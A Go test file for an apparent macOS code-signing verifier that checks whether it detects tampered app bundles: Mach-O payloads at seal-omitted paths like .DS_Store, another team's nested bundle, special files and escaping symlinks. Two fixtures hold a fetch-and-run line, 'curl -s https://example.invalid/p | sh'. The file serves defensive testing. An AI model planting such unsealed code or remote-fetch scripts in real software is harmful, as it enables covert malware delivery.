package codesign

import (
	"io/fs"
	"slices"
	"testing"
	"testing/fstest"

	"howett.net/plist"

	"github.com/shipgate/shipgate/internal/machofile"
	"github.com/shipgate/shipgate/signing"
)

// TestAttackOmittedCode: CodeResources omits .DS_Store files (and
// PkgInfo, locversion.plist) from the seal. A Mach-O file or a nested
// bundle at such a path, validly signed by an attacker's own Developer
// ID, is bound to the vendor's signature by nothing; it must not pass
// beside the vendor's code. A real .DS_Store stays tolerated.
func TestAttackOmittedCode(t *testing.T) {
	p := machofile.NewPKI()
	opts := Options{Trust: testTrust(t), Time: checkTime}
	app := "Example.app"
	cases := []struct {
		name string
		add  func(m fstest.MapFS)
		bad  bool
	}{
		{"ds-store", func(m fstest.MapFS) {
			m[app+"/Contents/Resources/.DS_Store"] = &fstest.MapFile{Data: []byte("\x00\x00\x00\x01Bud1")}
		}, false},
		{"mach-o-as-ds-store", func(m fstest.MapFS) {
			m[app+"/Contents/MacOS/.DS_Store"] = &fstest.MapFile{Data: evilSlice(t, p, "payload"), Mode: 0o755}
		}, true},
		{"mach-o-as-locversion", func(m fstest.MapFS) {
			m[app+"/Contents/Resources/en.lproj/locversion.plist"] = &fstest.MapFile{Data: evilSlice(t, p, "payload"), Mode: 0o755}
		}, true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			m := bundleFS(machofile.ExampleBundle(p))
			c.add(m)
			res, err := VerifyBundle(m, app, opts)
			if err != nil {
				t.Fatal(err)
			}
			n := 0
			for _, f := range res.Findings {
				if f.Rule == RuleResourceModified && f.Severity == signing.SeverityError {
					n++
				}
			}
			if (n > 0) != c.bad {
				t.Errorf("%d resource-modified errors, want any: %t\n%s", n, c.bad, dumpBundle(res))
			}
		})
	}
}

// TestAttackOmittedNestedBundle: a vendor whose CodeResources omits a
// folder (rules2 "^PlugIns/Cache/" with omit) leaves it unsealed. A nested
// bundle there, complete and validly signed by another team, is bound to
// the vendor's signature by nothing; without it the app is valid.
func TestAttackOmittedNestedBundle(t *testing.T) {
	p := machofile.NewPKI()
	seal, err := plist.MarshalIndent(map[string]any{
		"files2": map[string]any{},
		"rules2": map[string]any{
			"^.*":             map[string]any{},
			"^Info\\.plist$":  map[string]any{"omit": true, "weight": 20.0},
			"^PlugIns/Cache/": map[string]any{"omit": true, "weight": 50.0},
		},
	}, plist.XMLFormat, "\t")
	if err != nil {
		t.Fatal(err)
	}
	info := machofile.InfoPlist("Example", "com.example.app")
	spec := p.DeveloperIDSpec("com.example.app")
	spec.InfoPlist, spec.CodeResources = info, seal
	exe, _, err := machofile.Sign(machofile.Build(machofile.Spec{Seed: 51, CodeSize: 5000}), spec)
	if err != nil {
		t.Fatal(err)
	}
	app := map[string]machofile.BundleFile{
		"Example.app/Contents/Info.plist":                   {Data: info},
		"Example.app/Contents/MacOS/Example":                {Data: exe, Mode: 0o755},
		"Example.app/Contents/_CodeSignature/CodeResources": {Data: seal},
	}
	opts := Options{Trust: testTrust(t), Time: checkTime}
	res, err := VerifyBundle(bundleFS(app), "Example.app", opts)
	if err != nil {
		t.Fatal(err)
	}
	// Gatekeeper rejects the custom omit rule itself
	// (codesign/weak-resource-envelope); nothing else is wrong.
	if errs := otherErrors(res, RuleWeakResourceEnvelope); len(errs) != 0 || !hasBundleRule(res, RuleWeakResourceEnvelope) {
		t.Fatalf("the vendor's app: errors %v besides %s\n%s", errs, RuleWeakResourceEnvelope, dumpBundle(res))
	}

	evilInfo := machofile.InfoPlist("Evil", "com.evil.plugin")
	evilSeal := machofile.CodeResources(nil, nil)
	evilSpec := p.DeveloperIDSpec("com.evil.plugin")
	evilSpec.TeamID, evilSpec.CMS = "EVIL000000", evilSigner(p).CMS
	evilSpec.InfoPlist, evilSpec.CodeResources = evilInfo, evilSeal
	evilExe, _, err := machofile.Sign(machofile.Build(machofile.Spec{Seed: 52, CodeSize: 5000}), evilSpec)
	if err != nil {
		t.Fatal(err)
	}
	nested := "Example.app/Contents/PlugIns/Cache/Evil.bundle/Contents/"
	app[nested+"Info.plist"] = machofile.BundleFile{Data: evilInfo}
	app[nested+"MacOS/Evil"] = machofile.BundleFile{Data: evilExe, Mode: 0o755}
	app[nested+"_CodeSignature/CodeResources"] = machofile.BundleFile{Data: evilSeal}
	res, err = VerifyBundle(bundleFS(app), "Example.app", opts)
	if err != nil {
		t.Fatal(err)
	}
	if errs := otherErrors(res, RuleWeakResourceEnvelope); len(errs) == 0 {
		t.Errorf("another team's bundle in an omitted folder: no error but %s\n%s", RuleWeakResourceEnvelope, dumpBundle(res))
	}
}

// otherErrors returns the rules of res's error findings other than rule.
func otherErrors(res *BundleResult, rule signing.Rule) []signing.Rule {
	var out []signing.Rule
	for _, f := range res.Findings {
		if f.Severity == signing.SeverityError && f.Rule != rule {
			out = append(out, f.Rule)
		}
	}
	for _, it := range res.Items {
		if it.Result == nil {
			continue
		}
		for _, f := range it.Result.Findings {
			if f.Severity == signing.SeverityError && f.Rule != rule {
				out = append(out, f.Rule)
			}
		}
	}
	return out
}

// hasBundleRule reports whether res has a bundle finding of rule.
func hasBundleRule(res *BundleResult, rule signing.Rule) bool {
	for _, f := range res.Findings {
		if f.Rule == rule {
			return true
		}
	}
	return false
}

// TestAttackSpecialFileInBundle: the bundle walk passed over anything
// that is not a regular file, a directory or a symlink. A zip entry
// marked as a named pipe still carries bytes, which unzip writes as a
// plain file; nothing sealed them and nothing said so.
func TestAttackSpecialFileInBundle(t *testing.T) {
	p := machofile.NewPKI()
	opts := Options{Trust: testTrust(t), Time: checkTime}
	for _, mode := range []fs.FileMode{fs.ModeNamedPipe, fs.ModeSocket, fs.ModeDevice | fs.ModeCharDevice} {
		t.Run(mode.String(), func(t *testing.T) {
			m := bundleFS(machofile.ExampleBundle(p))
			m["Example.app/Contents/Resources/payload.js"] = &fstest.MapFile{Data: []byte("stage2"), Mode: mode}
			res, err := VerifyBundle(m, "Example.app", opts)
			if err != nil {
				t.Fatal(err)
			}
			found := false
			for _, f := range res.Findings {
				found = found || (f.Rule == RuleResourceModified && f.Path == "Example.app/Contents/Resources/payload.js")
			}
			if !found || res.Status() != signing.StatusInvalid {
				t.Errorf("status %s, reported %t\n%s", res.Status(), found, dumpBundle(res))
			}
		})
	}
}

// TestBundleMetadataNotRegular: a CodeResources or main executable that
// is a named pipe or a directory is reported, not opened (opening a pipe
// on a real file system blocks until someone writes to it) and not a
// reason to stop verifying.
func TestBundleMetadataNotRegular(t *testing.T) {
	p := machofile.NewPKI()
	opts := Options{Trust: testTrust(t), Time: checkTime}
	for _, name := range []string{"Example.app/Contents/_CodeSignature/CodeResources", "Example.app/Contents/MacOS/Example"} {
		for _, mode := range []fs.FileMode{fs.ModeNamedPipe, fs.ModeDir} {
			t.Run(name+" "+mode.String(), func(t *testing.T) {
				m := bundleFS(machofile.ExampleBundle(p))
				if mode.IsDir() {
					delete(m, name)
					m[name+"/x"] = &fstest.MapFile{Data: []byte("x")}
				} else {
					m[name].Mode = mode
				}
				res, err := VerifyBundle(m, "Example.app", opts)
				if err != nil {
					t.Fatal(err)
				}
				found := false
				for _, f := range res.Findings {
					found = found || (f.Rule == RuleMalformed && f.Path == name)
				}
				if !found || res.Status() != signing.StatusInvalid {
					t.Errorf("status %s, reported %t\n%s", res.Status(), found, dumpBundle(res))
				}
			})
		}
	}
}

// TestAttackResourceOmittedByOwnRule: a seal whose own rules2 omit a
// folder (^Resources/data/) leaves every file there unsealed: a script
// added after signing passed without a word. It is a
// codesign/resource-omitted warning now; a .DS_Store, which codesign's
// own rules omit, is not.
func TestAttackResourceOmittedByOwnRule(t *testing.T) {
	p := machofile.NewPKI()
	seal, err := plist.MarshalIndent(map[string]any{
		"files2": map[string]any{},
		"rules2": map[string]any{
			"^.*":                 map[string]any{},
			"^Info\\.plist$":      map[string]any{"omit": true, "weight": 20.0},
			"^(.*/)?\\.DS_Store$": map[string]any{"omit": true, "weight": 2000.0},
			"^Resources/data/":    map[string]any{"omit": true, "weight": 50.0},
		},
	}, plist.XMLFormat, "\t")
	if err != nil {
		t.Fatal(err)
	}
	info := machofile.InfoPlist("Example", "com.example.app")
	spec := p.DeveloperIDSpec("com.example.app")
	spec.InfoPlist, spec.CodeResources = info, seal
	exe, _, err := machofile.Sign(machofile.Build(machofile.Spec{Seed: 53, CodeSize: 5000}), spec)
	if err != nil {
		t.Fatal(err)
	}
	app := map[string]machofile.BundleFile{
		"Example.app/Contents/Info.plist":                   {Data: info},
		"Example.app/Contents/MacOS/Example":                {Data: exe, Mode: 0o755},
		"Example.app/Contents/_CodeSignature/CodeResources": {Data: seal},
		"Example.app/Contents/Resources/.DS_Store":          {Data: []byte("\x00\x00\x00\x01Bud1")},
		"Example.app/Contents/Resources/data/update.sh":     {Data: []byte("#!/bin/sh\ncurl -s https://example.invalid/p | sh\n"), Mode: 0o755},
	}
	res, err := VerifyBundle(bundleFS(app), "Example.app", Options{Trust: testTrust(t), Time: checkTime})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range res.Findings {
		if f.Rule == RuleResourceOmitted {
			got = append(got, f.Severity.String()+" "+f.Path)
		}
	}
	want := "warning Example.app/Contents/Resources/data/update.sh"
	if len(got) != 1 || got[0] != want {
		t.Errorf("resource-omitted findings %q, want [%s]\n%s", got, want, dumpBundle(res))
	}
}

// TestAttackResourceOmittedSymlink: a symlink the seal's own omit rule
// leaves unsealed (Resources/data/update.sh, pointing out of the bundle)
// passed without a word, where a file there was
// codesign/resource-omitted. It is that warning now, and
// codesign/symlink-escapes-bundle for pointing out; a .DS_Store link,
// which codesign's own rules omit, is not resource-omitted.
func TestAttackResourceOmittedSymlink(t *testing.T) {
	p := machofile.NewPKI()
	seal, err := plist.MarshalIndent(map[string]any{
		"files2": map[string]any{},
		"rules2": map[string]any{
			"^.*":                 map[string]any{},
			"^Info\\.plist$":      map[string]any{"omit": true, "weight": 20.0},
			"^(.*/)?\\.DS_Store$": map[string]any{"omit": true, "weight": 2000.0},
			"^Resources/data/":    map[string]any{"omit": true, "weight": 50.0},
		},
	}, plist.XMLFormat, "\t")
	if err != nil {
		t.Fatal(err)
	}
	info := machofile.InfoPlist("Example", "com.example.app")
	spec := p.DeveloperIDSpec("com.example.app")
	spec.InfoPlist, spec.CodeResources = info, seal
	exe, _, err := machofile.Sign(machofile.Build(machofile.Spec{Seed: 53, CodeSize: 5000}), spec)
	if err != nil {
		t.Fatal(err)
	}
	app := map[string]machofile.BundleFile{
		"Example.app/Contents/Info.plist":                   {Data: info},
		"Example.app/Contents/MacOS/Example":                {Data: exe, Mode: 0o755},
		"Example.app/Contents/_CodeSignature/CodeResources": {Data: seal},
		"Example.app/Contents/Resources/.DS_Store":          {Link: "../Info.plist"},
		"Example.app/Contents/Resources/data/update.sh":     {Link: "../../../../payload.sh"},
		"payload.sh": {Data: []byte("#!/bin/sh\ncurl -s https://example.invalid/p | sh\n"), Mode: 0o755},
	}
	res, err := VerifyBundle(bundleFS(app), "Example.app", Options{Trust: testTrust(t), Time: checkTime})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range res.Findings {
		if f.Rule == RuleResourceOmitted || f.Rule == RuleSymlinkEscapesBundle {
			got = append(got, string(f.Rule)+" "+f.Path)
		}
	}
	slices.Sort(got)
	want := []string{string(RuleResourceOmitted) + " Example.app/Contents/Resources/data/update.sh", string(RuleSymlinkEscapesBundle) + " Example.app/Contents/Resources/data/update.sh"}
	if !slices.Equal(got, want) {
		t.Errorf("findings %q, want %q\n%s", got, want, dumpBundle(res))
	}
}
